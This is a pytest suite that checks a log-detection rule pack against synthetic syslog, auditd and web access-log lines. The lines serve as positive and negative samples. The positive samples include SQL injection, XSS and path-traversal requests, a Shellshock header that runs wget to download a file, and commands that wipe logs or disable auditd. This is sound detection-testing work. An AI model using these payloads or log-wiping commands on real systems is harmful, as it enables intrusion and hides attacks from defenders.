"""The shipped rule pack (`rules/`): it loads cleanly, every rule is complete,
and every rule has positive and negative samples.

The samples are log lines written for this test (realistic syslog, auditd and
access-log lines), parsed by the real parser from a temporary file
(`run_files`). A rule that raises alerts is checked by the alerts raised; a base
rule that only feeds a correlation (silent or informational) is checked by its
hits in the engine.
"""

from __future__ import annotations

import re
from datetime import datetime, timedelta, timezone
from pathlib import Path
from uuid import UUID

import pytest

from soc_tui.detect.alerts import SEVERITY_RANK
from soc_tui.detect.engine import Engine
from soc_tui.detect.loader import Correlation, RuleSet, load_rules
from soc_tui.detect.offline import OfflineResult, event_dict, run_files
from soc_tui.parse import LineParser

RULES = Path(__file__).resolve().parent.parent / "rules"
YEAR = 2026
BASE = datetime(YEAR, 3, 1, 10, 0, 0, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    return load_rules([RULES])


# -- writing log lines ----------------------------------------------------------------


def stamp(sec: float) -> datetime:
    return BASE + timedelta(seconds=sec)


def sl(sec: float, prog: str, msg: str, host: str = "web-01") -> str:
    """A syslog (RFC 3164) line `sec` seconds after BASE."""
    t = stamp(sec)
    return f"{t:%b} {t.day:2d} {t:%H:%M:%S} {host} {prog}: {msg}"


def sshd(sec: float, msg: str, pid: int = 4242) -> str:
    return sl(sec, f"sshd[{pid}]", msg)


def sudo(sec: float, user: str, command: str, *, reason: str | None = None) -> str:
    why = f"{reason} ; " if reason else ""
    return sl(sec, "sudo", f"  {user} : {why}TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")


def web(sec: float, ip: str, request: str, status: int = 200, *, ua: str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        referer: str = "-", size: int = 5120) -> str:
    """An Apache/nginx combined access-log line."""
    t = stamp(sec)
    return f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{request}" {status} {size} "{referer}" "{ua}"'


def audit(sec: float, typ: str, body: str, serial: int = 100) -> str:
    return f"type={typ} msg=audit({int(stamp(sec).timestamp())}.123:{serial}): {body}"


def hexed(text: str) -> str:
    return text.encode().hex().upper()


def ufw(sec: float, src: str, dport: int, action: str = "BLOCK") -> str:
    return sl(sec, "kernel", f"[ 8123.456789] [UFW {action}] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 "
              f"SRC={src} DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=241 ID=54321 PROTO=TCP "
              f"SPT=41234 DPT={dport} WINDOW=1024 RES=0x00 SYN URGP=0")


ATTACKER = "203.0.113.66"
OTHER = "198.51.100.77"
GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def failures(ip: str, n: int, start: float = 0, step: float = 2, pid: int = 5000) -> list[str]:
    """n `Failed password` lines from ip, `step` seconds apart."""
    return [sshd(start + i * step, f"Failed password for root from {ip} port {40000 + i} ssh2", pid + i)
            for i in range(n)]


# -- running the rules ------------------------------------------------------------------


def run(pack: RuleSet, lines: list[str], tmp_path: Path, name: str = "sample.log") -> OfflineResult:
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return run_files(pack, [str(path)], year=YEAR, tz="UTC")


def raised(result: OfflineResult) -> set[str]:
    return {a.rule_name for a in result.alerts}


def hits(pack: RuleSet, lines: list[str]) -> set[str]:
    """Names of every rule that matched, silent and informational ones included."""
    engine = Engine(pack)
    parser = LineParser(fmt="auto", source_id="sample", year=YEAR, tz="UTC")
    for i, line in enumerate(lines, 1):
        ev = event_dict(parser.parse(line))
        ev["id"] = i
        engine.process(ev)
    by_id = {r.rule_id: r.label for r in pack.all()}
    return {by_id[rid] for rid, n in engine.hit_counts.items() if n}


def fired(pack: RuleSet, name: str, lines: list[str], tmp_path: Path) -> bool:
    rule = pack.find(name)
    assert rule is not None, f"no rule {name}"
    if rule.silent or rule.level == "informational":
        return name in hits(pack, lines)
    return name in raised(run(pack, lines, tmp_path))


# -- the samples: rule name -> (positive scenarios, negative scenarios) -------------------
# A scenario is a list of lines; for the single-line rules each line is one scenario.

def one_each(*lines: str) -> list[list[str]]:
    return [[line] for line in lines]


SAMPLES: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "ssh_auth_failure": (
        one_each(
            sshd(0, f"Failed password for root from {ATTACKER} port 50022 ssh2"),
            sshd(0, f"Failed password for invalid user oracle from {ATTACKER} port 50023 ssh2"),
            sshd(0, f"Invalid user admin from {ATTACKER} port 50024"),
            sshd(0, f"Failed keyboard-interactive/pam for invalid user pi from {ATTACKER} port 50025 ssh2"),
            sshd(0, f"Failed none for invalid user 0 from {ATTACKER} port 50026 ssh2"),
            sshd(0, f"Failed publickey for invalid user git from {ATTACKER} port 50027 ssh2: RSA SHA256:Qm9ndXNLZXlGb3JUZXN0"),
            sshd(0, "error: PAM: Authentication failure for alice from 203.0.113.70"),
            sshd(0, f"ROOT LOGIN REFUSED FROM {ATTACKER} port 50028"),
            sshd(0, f"User root from {ATTACKER} not allowed because not listed in AllowUsers"),
            sshd(0, f"User mallory from {ATTACKER} not allowed because listed in DenyUsers"),
            sshd(0, f"refused connect from scanner.example.net ({ATTACKER})"),
            sshd(0, f"error: Received disconnect from {ATTACKER} port 50029:3: com.jcraft.jsch.JSchException: Auth fail [preauth]"),
            sshd(0, f"error: maximum authentication attempts exceeded for root from {ATTACKER} port 50030 ssh2 [preauth]"),
            sshd(0, f"Disconnecting invalid user admin {ATTACKER} port 50031: Change of username or service not allowed: (admin,ssh-connection) -> (root,ssh-connection) [preauth]"),
            sl(0, "dropbear[77]", f"Bad password attempt for 'root' from {ATTACKER}:50032"),
        ),
        one_each(
            sshd(0, "Accepted publickey for alice from 198.51.100.23 port 50110 ssh2: ED25519 SHA256:Zm9vYmFyYmF6"),
            # a client offering its keys one by one: not a password guess
            sshd(0, "Failed publickey for git from 198.51.100.23 port 50111 ssh2: ECDSA SHA256:c29tZWtleQ"),
            # written just before each "Failed password" line: counting it would count twice
            sshd(0, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER}  user=root"),
            sshd(0, f"Connection closed by {ATTACKER} port 50112 [preauth]"),
            sshd(0, f"Received disconnect from {ATTACKER} port 50113:11: Bye Bye [preauth]"),
            sshd(0, f"Did not receive identification string from {ATTACKER} port 50114"),
            sshd(0, "User root not allowed because account is locked"),
            sshd(0, "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)"),
            sl(0, "vsftpd[300]", f"Failed password for root from {ATTACKER} port 50115 ssh2"),  # not sshd
        ),
    ),
    "ssh_bruteforce": (
        [
            failures(ATTACKER, 5),
            # an `Invalid user` line and the `Failed password for invalid user` after it are two
            [sshd(0, f"Invalid user admin from {ATTACKER} port 50001", 6001),
             sshd(2, f"Failed password for invalid user admin from {ATTACKER} port 50001 ssh2", 6001),
             sshd(4, f"Invalid user test from {ATTACKER} port 50002", 6002),
             sshd(6, f"Failed password for invalid user test from {ATTACKER} port 50002 ssh2", 6002),
             sshd(8, f"Invalid user guest from {ATTACKER} port 50003", 6003)],
            # `message repeated 4 times` counts four
            [sshd(0, f"Failed password for root from {ATTACKER} port 50010 ssh2", 6010),
             sshd(9, f"message repeated 4 times: [ Failed password for root from {ATTACKER} port 50010 ssh2]", 6010)],
        ],
        [
            failures(ATTACKER, 4),
            failures(ATTACKER, 5, step=20),  # at most 3 within any 60 s
            [line for i in range(5) for line in failures(f"203.0.113.{100 + i}", 1, start=i)],
            # the pam_unix line before each failure is not a second failure
            [line for i in range(4) for line in (
                sshd(i * 3, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER}  user=root", 7000 + i),
                sshd(i * 3 + 1, f"Failed password for root from {ATTACKER} port {51000 + i} ssh2", 7000 + i))],
        ],
    ),
    "ssh_accepted_login": (
        one_each(
            sshd(0, "Accepted publickey for alice from 198.51.100.23 port 50110 ssh2: ED25519 SHA256:Zm9vYmFyYmF6"),
            sshd(0, "Accepted password for deploy from 198.51.100.24 port 50111 ssh2"),
        ),
        one_each(
            sshd(0, "Failed password for deploy from 198.51.100.24 port 50111 ssh2"),
            sshd(0, "Postponed publickey for alice from 198.51.100.23 port 50110 ssh2 [preauth]"),
        ),
    ),
    "ssh_success_after_bruteforce": (
        [failures(ATTACKER, 6) + [sshd(40, f"Accepted password for deploy from {ATTACKER} port 50100 ssh2", 5100)]],
        [
            failures(ATTACKER, 6) + [sshd(40, f"Accepted password for deploy from {OTHER} port 50100 ssh2", 5100)],
            failures(ATTACKER, 6) + [sshd(10 + 11 * 60, f"Accepted password for deploy from {ATTACKER} port 50100 ssh2", 5100)],
            [sshd(0, f"Accepted password for deploy from {ATTACKER} port 50100 ssh2", 5100)] + failures(ATTACKER, 6, start=10),
            failures(ATTACKER, 4) + [sshd(40, f"Accepted password for deploy from {ATTACKER} port 50100 ssh2", 5100)],
        ],
    ),
    "ssh_root_login": (
        one_each(
            sshd(0, "Accepted publickey for root from 198.51.100.23 port 50110 ssh2: ED25519 SHA256:Zm9vYmFyYmF6"),
            sshd(0, f"Accepted password for root from {ATTACKER} port 50111 ssh2"),
        ),
        one_each(
            sshd(0, "Accepted publickey for alice from 198.51.100.23 port 50110 ssh2: ED25519 SHA256:Zm9vYmFyYmF6"),
            sshd(0, f"Failed password for root from {ATTACKER} port 50111 ssh2"),
            sshd(0, f"ROOT LOGIN REFUSED FROM {ATTACKER}"),
        ),
    ),
    "sudo_auth_failure": (
        one_each(
            sl(0, "sudo", "pam_unix(sudo:auth): authentication failure; logname=eve uid=1003 euid=0 tty=/dev/pts/1 ruser=eve rhost=  user=eve"),
            sudo(0, "eve", "/bin/bash", reason="3 incorrect password attempts"),
            sudo(0, "eve", "/bin/ls /root", reason="1 incorrect password attempt"),
        ),
        one_each(
            sudo(0, "alice", "/usr/bin/systemctl restart nginx"),
            sudo(0, "ansible", "/bin/true", reason="a password is required"),  # sudo -n in a script
            sshd(0, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER}  user=root"),
        ),
    ),
    "sudo_not_in_sudoers": (
        one_each(
            sudo(0, "eve", "/bin/cat /etc/shadow", reason="user NOT in sudoers"),
            sudo(0, "eve", "/bin/bash", reason="user NOT authorized on host"),
        ),
        one_each(
            sudo(0, "alice", "/bin/cat /etc/shadow"),
            sudo(0, "eve", "/bin/bash", reason="3 incorrect password attempts"),
        ),
    ),
    "sudo_first_use": (
        one_each(sudo(0, "alice", "/usr/bin/apt-get update")),
        one_each(
            sudo(0, "eve", "/bin/bash", reason="3 incorrect password attempts"),
            sudo(0, "eve", "/bin/bash", reason="user NOT in sudoers"),
            sl(0, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)"),
        ),
    ),
    "su_failure": (
        one_each(
            sl(0, "su[4500]", "FAILED SU (to root) mallory on pts/2"),
            sl(0, "su[4501]", "FAILED su for root by mallory"),
            sl(0, "su[4502]", "- pts/2 mallory:root"),
            sl(0, "su[4503]", "pam_unix(su:auth): authentication failure; logname=mallory uid=1004 euid=0 tty=pts/2 ruser=mallory rhost=  user=root"),
            sl(0, "su[4504]", "pam_unix(su-l:auth): authentication failure; logname=mallory uid=1004 euid=0 tty=pts/2 ruser=mallory rhost=  user=root"),
        ),
        one_each(
            sl(0, "su[4496]", "Successful su for postgres by root"),
            sl(0, "su[4496]", "+ /dev/pts/1 root:postgres"),
            sl(0, "su[4497]", "(to root) alice on pts/0"),
            sl(0, "su[4496]", "pam_unix(su:session): session opened for user postgres by alice(uid=0)"),
            sl(0, "sudo", "pam_unix(sudo:auth): authentication failure; logname=eve uid=1003 euid=0 tty=/dev/pts/1 ruser=eve rhost=  user=eve"),
        ),
    ),
    "user_created": (
        one_each(
            sl(0, "useradd[5100]", "new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash, from=/dev/pts/0"),
            sl(0, "useradd[5101]", "new user: name=backup, UID=1003, GID=1003, home=/home/backup, shell=/bin/sh"),
        ),
        one_each(
            # service accounts that package installs create
            sl(0, "useradd[5102]", "new user: name=mysql, UID=106, GID=111, home=/nonexistent, shell=/bin/false"),
            sl(0, "useradd[5103]", "new user: name=_chrony, UID=112, GID=120, home=/var/lib/chrony, shell=/usr/sbin/nologin, from=none"),
            sl(0, "useradd[5104]", "failed adding user 'eve', data deleted"),
            sl(0, "groupadd[5105]", "new group: name=eve, GID=1002"),
            sl(0, "usermod[5106]", "change user 'eve' shell from '/bin/sh' to '/bin/bash'"),
        ),
    ),
    "group_created": (
        one_each(sl(0, "groupadd[5200]", "new group: name=developers, GID=1005")),
        one_each(
            sl(0, "groupadd[5201]", "new group: name=mysql, GID=111"),
            sl(0, "groupadd[5202]", "group added to /etc/group: name=developers, GID=1005"),
            sl(0, "groupdel[5203]", "group 'developers' removed"),
        ),
    ),
    "user_added_to_privileged_group": (
        one_each(
            sl(0, "usermod[5300]", "add 'backup' to group 'sudo'"),
            sl(0, "usermod[5301]", "add 'eve' to group 'docker'"),
            sl(0, "gpasswd[5302]", "user eve added by root to group wheel"),
            sl(0, "gpasswd[5303]", "members of group adm set by root to alice,eve"),
        ),
        one_each(
            sl(0, "usermod[5304]", "add 'eve' to group 'developers'"),
            sl(0, "usermod[5305]", "add 'backup' to shadow group 'sudo'"),  # companion of the line above it
            sl(0, "gpasswd[5306]", "user eve removed by root from group sudo"),
            sl(0, "groupadd[5307]", "new group: name=docker, GID=999"),
        ),
    ),
    "uid0_account_created": (
        one_each(
            sl(0, "useradd[5400]", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"),
            sl(0, "usermod[5401]", "change user 'backup' UID from '1003' to '0'"),
        ),
        one_each(
            sl(0, "useradd[5402]", "new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash"),
            sl(0, "usermod[5403]", "change user 'eve' UID from '0' to '1004'"),
            sl(0, "usermod[5404]", "change user 'eve' GID from '1002' to '0'"),
        ),
    ),
    "cron_modified": (
        one_each(
            sl(0, "crontab[6002]", "(www-data) REPLACE (www-data)"),
            sl(0, "crontab[6003]", "(root) DELETE (root)"),
            sl(0, "cron[812]", "(root) RELOAD (crontabs/root)"),
            sl(0, "cron[812]", "(*system*) RELOAD (/etc/crontab)"),
            sl(0, "crond[1204]", "(root) RELOAD (/var/spool/cron/root)"),  # cronie
        ),
        one_each(
            sl(0, "CRON[6001]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"),
            sl(0, "crontab[6004]", "(alice) LIST (alice)"),
            sl(0, "cron[812]", "(*system*php) RELOAD (/etc/cron.d/php)"),
            sl(0, "CRON[6005]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
        ),
    ),
    "firewall_drop": (
        one_each(ufw(0, ATTACKER, 23), sl(0, "kernel", f"IPTABLES-DROP: IN=eth1 OUT= SRC={ATTACKER} DST=192.0.2.1 LEN=60 PROTO=UDP SPT=5353 DPT=161")),
        one_each(ufw(0, ATTACKER, 22, "ALLOW"), sl(0, "kernel", "[   12.000001] EXT4-fs (sda1): mounted filesystem")),
    ),
    "firewall_drop_burst": (
        [[ufw(i * 2, ATTACKER, 20 + i) for i in range(12)]],
        [
            [ufw(i * 2, f"203.0.113.{100 + i}", 23) for i in range(12)],
            [ufw(i * 2, ATTACKER, 20 + i) for i in range(9)],
            [ufw(i * 2, ATTACKER, 20 + i, "ALLOW") for i in range(12)],
            [ufw(i * 10, ATTACKER, 20 + i) for i in range(12)],  # 6 a minute
        ],
    ),
    "web_client_error": (
        one_each(web(0, OTHER, "GET /missing.png HTTP/1.1", 404), web(0, OTHER, "POST /login HTTP/1.1", 403)),
        one_each(web(0, OTHER, "GET / HTTP/1.1", 200), web(0, OTHER, "GET /old HTTP/1.1", 301),
                 web(0, OTHER, "GET /api HTTP/1.1", 502)),
    ),
    "web_4xx_burst": (
        [[web(i * 0.5, ATTACKER, f"GET /admin{i}.php HTTP/1.1", 404) for i in range(25)]],
        [
            [web(i * 0.5, ATTACKER, f"GET /page{i}.html HTTP/1.1", 200) for i in range(25)],
            [web(i * 0.5, ATTACKER, f"GET /admin{i}.php HTTP/1.1", 404) for i in range(19)],
            [web(i * 0.5, f"198.51.100.{10 + i}", "GET /favicon.ico HTTP/1.1", 404) for i in range(25)],
            [web(i * 30, ATTACKER, f"GET /admin{i}.php HTTP/1.1", 404) for i in range(25)],
        ],
    ),
    "web_sqli": (
        one_each(
            web(0, ATTACKER, "GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20- HTTP/1.1", 500),
            web(0, ATTACKER, "GET /search?q=1'+or+'1'='1 HTTP/1.1"),
            web(0, ATTACKER, "GET /news.php?id=5;WAITFOR%20DELAY%20'0:0:5'-- HTTP/1.1"),
            web(0, ATTACKER, "GET /p.php?id=1%2520AND%2520SLEEP(5) HTTP/1.1"),  # double-encoded
            web(0, ATTACKER, "GET /list?cat=2%20and%20extractvalue(1,concat(0x7e,version())) HTTP/1.1"),
            web(0, ATTACKER, "GET /user.php?act=login HTTP/1.1", 404, referer=r'554fcaads|a:2:{s:3:\"num\";s:72:\"*/ union select 1,0x272f2a,3,4,5,6,7,8,9--\"}'),  # Apache escapes " as \"
        ),
        one_each(
            web(0, OTHER, "GET /blog/2024/05/how-to-select-the-right-union-contract HTTP/1.1"),
            web(0, OTHER, "POST /include/dialog/select_images_post.php?CKEditor=body&langCode=en HTTP/1.1"),
            web(0, OTHER, "GET /products?sort=price&order=desc&page=2 HTTP/1.1"),
            web(0, OTHER, "GET /search?q=order+history HTTP/1.1", ua=GOOGLEBOT_UA),
        ),
    ),
    "web_xss": (
        one_each(
            web(0, ATTACKER, "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1"),
            web(0, ATTACKER, "GET /login?next=javascript:alert(document.cookie) HTTP/1.1"),
            web(0, ATTACKER, "GET /?q=%253Csvg%2Fonload%3Dconfirm(1)%253E HTTP/1.1"),
            web(0, ATTACKER, "GET /page?name=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E HTTP/1.1"),
        ),
        one_each(
            web(0, OTHER, "GET /search?q=javascript+tutorial HTTP/1.1"),
            web(0, OTHER, "GET /compare?expr=1%3C2 HTTP/1.1"),
            web(0, OTHER, "GET /blog/scripting-in-bash HTTP/1.1", ua=GOOGLEBOT_UA),
        ),
    ),
    "web_path_traversal": (
        one_each(
            web(0, ATTACKER, "GET /download.php?file=../../../../etc/passwd HTTP/1.1"),
            web(0, ATTACKER, "GET /static/%2e%2e/%2e%2e/%2e%2e/etc/shadow HTTP/1.1", 400),
            web(0, ATTACKER, "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400),
            web(0, ATTACKER, "GET /files?f=..%5c..%5cwindows%5cwin.ini HTTP/1.1"),
            web(0, ATTACKER, "GET /%252E%252E%252F%252E%252E%252Fetc%252Fhosts HTTP/1.1", 404),
            "[Sun Mar 01 10:00:00.123456 2026] [core:error] [pid 7005:tid 140667133085440] [client 203.0.113.66:14532] "
            "AH00126: Invalid URI in request GET /cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1",
        ),
        one_each(
            web(0, OTHER, "GET /images/logo..png HTTP/1.1"),
            web(0, OTHER, "GET /blog/passwords-best-practices HTTP/1.1"),
            web(0, OTHER, "GET /etc/config.html HTTP/1.1", 404),
        ),
    ),
    "web_shellshock": (
        one_each(
            web(0, ATTACKER, "GET /cgi-bin/status HTTP/1.1", 200, ua="() { :; }; /bin/bash -c 'wget http://203.0.113.9/x -O /tmp/x'"),
            web(0, ATTACKER, "GET / HTTP/1.1", 200, referer="() { _; } >_[$($())] { echo; id; }"),
            "[Sun Mar 01 10:00:00.813902 2026] [cgi:error] [pid 16860] [client 203.0.113.66:59635] "
            "AH01215: /bin/bash: warning: HTTP_USER_AGENT: ignoring function definition attempt",
        ),
        one_each(
            web(0, OTHER, "GET / HTTP/1.1", ua=GOOGLEBOT_UA),
            web(0, OTHER, "GET /js/app.js?v=2 HTTP/1.1", referer="https://example.org/page?(a)"),
        ),
    ),
    "web_sensitive_files": (
        one_each(
            web(0, ATTACKER, "GET /.env HTTP/1.1", 404),
            web(0, ATTACKER, "GET /.git/config HTTP/1.1", 404),
            web(0, ATTACKER, "GET /backup.sql HTTP/1.1", 404),
            web(0, ATTACKER, "GET /wp-config.php.bak HTTP/1.1", 404),
            web(0, ATTACKER, "GET /old/www.tar.gz HTTP/1.1", 404),
            web(0, ATTACKER, "GET /.aws/credentials HTTP/1.1", 404),
            web(0, ATTACKER, "GET /index.php~ HTTP/1.1", 404),
            web(0, ATTACKER, "GET /%2egit/HEAD HTTP/1.1", 404),
        ),
        one_each(
            web(0, OTHER, "GET /.well-known/acme-challenge/Xk3d9 HTTP/1.1"),
            web(0, OTHER, "GET /robots.txt HTTP/1.1", ua=GOOGLEBOT_UA),
            web(0, OTHER, "GET /downloads/report-2024.zip HTTP/1.1"),
            web(0, OTHER, "GET /css/site.css HTTP/1.1"),
            web(0, OTHER, "GET /search?q=.env+file HTTP/1.1"),
        ),
    ),
    "web_scanner_user_agent": (
        one_each(
            web(0, ATTACKER, "GET / HTTP/1.1", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
            web(0, ATTACKER, "GET /item.php?id=1 HTTP/1.1", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"),
            web(0, ATTACKER, "GET / HTTP/1.1", ua="Mozilla/5.0 zgrab/0.x"),
            web(0, ATTACKER, "GET /nmaplowercheck1712 HTTP/1.1", 404, ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ),
        one_each(
            web(0, OTHER, "GET / HTTP/1.1", ua=GOOGLEBOT_UA),
            web(0, OTHER, "GET / HTTP/1.1", ua="Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
            web(0, OTHER, "GET /api/health HTTP/1.1", ua="curl/8.5.0"),
            web(0, OTHER, "GET /api/health HTTP/1.1", ua="python-requests/2.31.0"),
        ),
    ),
    "log_tampering": (
        one_each(
            sudo(0, "mallory", "/usr/bin/truncate -s0 /var/log/auth.log"),
            sudo(0, "mallory", "/bin/rm -f /var/log/wtmp /var/log/btmp"),
            sudo(0, "mallory", "/bin/sh -c cat /dev/null > /var/log/syslog"),
            sudo(0, "mallory", "/bin/ln -sf /dev/null /root/.bash_history"),
            sudo(0, "mallory", "/bin/bash -c history -c"),
            sudo(0, "mallory", "/bin/systemctl stop auditd"),
            sudo(0, "mallory", "/usr/sbin/service rsyslog stop"),
            sudo(0, "mallory", "/sbin/auditctl -e 0"),
            sudo(0, "mallory", "/usr/bin/find /var/log -type f -name *.log -delete"),
            audit(0, "DAEMON_END", "op=terminate auid=0 pid=1 subj=system_u:system_r:init_t:s0 res=success"),
            audit(0, "CONFIG_CHANGE", "auid=1000 ses=3 op=set audit_enabled=0 old=1 res=1"),
            audit(0, "SERVICE_STOP", "pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"),
            audit(0, "USER_CMD", f"pid=2000 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/mallory\" cmd={hexed('shred -u /var/log/auth.log')} terminal=pts/0 res=success'"),
            audit(0, "EXECVE", 'argc=3 a0="rm" a1="-f" a2="/root/.bash_history"'),
            sl(0, "auditd[812]", "The audit daemon is exiting."),
        ),
        one_each(
            sudo(0, "alice", "/bin/cat /var/log/auth.log"),
            sudo(0, "alice", "/usr/bin/tail -f /var/log/nginx/access.log"),
            sudo(0, "alice", "/bin/systemctl restart rsyslog"),
            sudo(0, "alice", "/bin/systemctl status auditd"),
            sudo(0, "alice", "/bin/rm -rf /tmp/build"),
            sl(0, "CRON[6001]", "(root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)"),
            sl(0, "CRON[6002]", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"),
            audit(0, "DAEMON_START", "op=start ver=3.0.7 format=enriched kernel=6.1.0 auid=4294967295 pid=612 uid=0 ses=4294967295 res=success"),
            audit(0, "EXECVE", 'argc=2 a0="cat" a1="/var/log/auth.log"'),
            audit(0, "USER_CMD", f"pid=2001 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/alice\" cmd={hexed('less /var/log/syslog')} terminal=pts/0 res=success'"),
        ),
    ),
}


def test_pack_loads_without_errors(pack: RuleSet) -> None:
    assert pack.errors == [], "\n".join(map(str, pack.errors))
    assert len(pack.rules) + len(pack.correlations) >= 20


def test_every_rule_is_complete(pack: RuleSet) -> None:
    problems = []
    names = set()
    for r in pack.all():
        where = f"{Path(r.path).name}: {r.label}"
        doc = r.doc
        for key in ("title", "id", "name", "status", "description", "level", "tags", "falsepositives", "author", "date"):
            if not doc.get(key):
                problems.append(f"{where}: no {key}")
        try:
            UUID(str(doc.get("id")))
        except ValueError:
            problems.append(f"{where}: id is not a UUID")
        if not re.fullmatch(r"[a-z][a-z0-9_]*", r.name or ""):
            problems.append(f"{where}: name {r.name!r} is not snake_case")
        names.add(r.name)
        if not any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in r.tags):
            problems.append(f"{where}: no ATT&CK technique tag")
        if not any(re.fullmatch(r"attack\.[a-z]+(-[a-z]+)*", t) and not re.match(r"attack\.t\d", t) for t in r.tags):
            problems.append(f"{where}: no ATT&CK tactic tag")
        if not isinstance(r, Correlation) and not doc.get("logsource"):
            problems.append(f"{where}: no logsource")
        # Regular expressions stay portable to other Sigma backends (pySigma checks
        # them with RE2, which has no lookaround).
        for sel in (doc.get("detection") or {}).values():
            for item in sel if isinstance(sel, list) else [sel]:
                if isinstance(item, dict):
                    for key, value in item.items():
                        if "|re" in str(key) and re.search(r"\(\?<?[=!]", str(value)):
                            problems.append(f"{where}: {key} uses lookaround")
    assert problems == []
    assert len(names) == len(pack.all())


def test_one_concern_per_file(pack: RuleSet) -> None:
    """A file holds one rule that raises alerts (plus the informational base rule
    of its correlation, when it has one)."""
    by_file: dict[str, list[str]] = {}
    for r in pack.all():
        if r.level != "informational":
            by_file.setdefault(Path(r.path).name, []).append(r.label)
    assert all(len(v) == 1 for v in by_file.values()), by_file


def test_required_rules_are_shipped(pack: RuleSet) -> None:
    required = """ssh_bruteforce ssh_success_after_bruteforce ssh_root_login sudo_auth_failure
        sudo_not_in_sudoers sudo_first_use su_failure user_created user_added_to_privileged_group
        uid0_account_created cron_modified firewall_drop_burst web_4xx_burst web_sqli web_xss
        web_path_traversal web_shellshock web_sensitive_files web_scanner_user_agent log_tampering""".split()
    assert [n for n in required if pack.find(n) is None] == []


def test_severities(pack: RuleSet) -> None:
    """Critical only where an attack has most likely succeeded; base rules of
    correlations raise nothing of their own."""
    critical = {r.label for r in pack.all() if r.level == "critical"}
    assert critical == {"ssh_success_after_bruteforce", "uid0_account_created"}
    for c in pack.correlations:
        for inp in c.inputs:
            if not isinstance(inp, Correlation):
                assert inp.level == "informational", inp.label
    assert pack.find("ssh_auth_failure").silent
    assert not pack.find("ssh_bruteforce").silent  # generate: true in ssh_success_after_bruteforce


def test_every_rule_has_samples(pack: RuleSet) -> None:
    names = {r.label for r in pack.all()}
    assert set(SAMPLES) == names
    for name, (pos, neg) in SAMPLES.items():
        assert pos and neg, name


CASES = [(name, "positive", i) for name, (pos, _) in SAMPLES.items() for i in range(len(pos))] + [
    (name, "negative", i) for name, (_, neg) in SAMPLES.items() for i in range(len(neg))
]


@pytest.mark.parametrize(("name", "kind", "index"), CASES, ids=[f"{n}-{k}{i}" for n, k, i in CASES])
def test_sample(pack: RuleSet, tmp_path: Path, name: str, kind: str, index: int) -> None:
    pos, neg = SAMPLES[name]
    lines = (pos if kind == "positive" else neg)[index]
    got = fired(pack, name, lines, tmp_path)
    assert got == (kind == "positive"), f"{name} {'did not fire' if kind == 'positive' else 'fired'} on:\n" + "\n".join(lines)


def test_prefilter_changes_no_result(pack: RuleSet) -> None:
    """The rule gates (Aho-Corasick prefilter) never hide a match of the pack."""
    lines = [line for pos, neg in SAMPLES.values() for scen in pos + neg for line in scen]
    parser = LineParser(fmt="auto", source_id="sample", year=YEAR, tz="UTC")
    events = []
    for i, line in enumerate(lines, 1):
        ev = event_dict(parser.parse(line))
        ev["id"] = i
        events.append(ev)
    gated, full = Engine(pack), Engine(pack, prefilter=False)
    for ev in events:
        a = [(h.rule.label, h.evidence) for h in gated.process(ev)]
        b = [(h.rule.label, h.evidence) for h in full.process(ev)]
        assert a == b, ev["raw"]
    assert gated.hit_counts == full.hit_counts


# -- behaviour over time ---------------------------------------------------------------


def test_bruteforce_merges_into_one_alert(pack: RuleSet, tmp_path: Path) -> None:
    """30 failures over a minute from one address: one alert whose count grows and
    whose evidence is every failure line; other lines are not evidence."""
    lines = failures(ATTACKER, 30, step=2)
    lines.insert(10, sshd(19, "Accepted publickey for alice from 198.51.100.23 port 50110 ssh2: ED25519 SHA256:Zm9v"))
    res = run(pack, lines, tmp_path)
    alerts = [a for a in res.alerts if a.rule_name == "ssh_bruteforce"]
    assert len(alerts) == 1
    a = alerts[0]
    assert a.src_ip == ATTACKER and a.host == "web-01" and a.user is None
    assert a.count == 26  # one hit per failure from the 5th on
    assert a.severity == "medium"
    assert sorted(res.lines(a)) == sorted(line for line in lines if "Failed password" in line)
    assert a.first_seen == int(stamp(8).timestamp() * 1_000_000)
    assert a.last_seen == int(stamp(58).timestamp() * 1_000_000)


